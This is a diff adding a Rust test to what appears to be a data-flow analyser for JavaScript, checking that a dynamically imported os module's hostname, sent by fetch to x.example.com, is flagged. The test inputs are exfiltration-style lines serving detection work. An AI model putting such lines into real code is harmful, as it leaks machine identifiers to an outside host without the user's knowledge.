@@ -233,6 +233,15 @@ fn require_made_by_create_require_loads_modules() {
     assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
 }
 
+#[test]
+fn awaited_dynamic_import_is_the_module() {
+    let f = run("const os = await import('node:os'); fetch('https://x.example.com/?h=' + os.hostname());");
+    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
+    // A module whose name is not known names nothing.
+    let f = run("const m = await import(process.argv[2]); fetch('https://x.example.com/?h=' + m.hostname());");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
 fn opt_outs(f: &FileFacts) -> Vec<(String, String)> {
     f.opt_outs.iter().map(|o| (o.setting.clone(), o.check.clone())).collect()
 }
